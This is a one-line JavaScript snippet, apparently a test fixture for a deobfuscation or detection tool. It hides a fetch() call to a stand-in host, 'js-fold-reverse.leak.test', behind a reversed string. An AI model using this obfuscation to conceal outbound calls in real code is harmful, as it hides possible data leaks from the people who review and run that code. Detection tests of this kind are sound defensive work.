fetch("/tset.kael.esrever-dlof-sj//".split("").reverse().join(""))
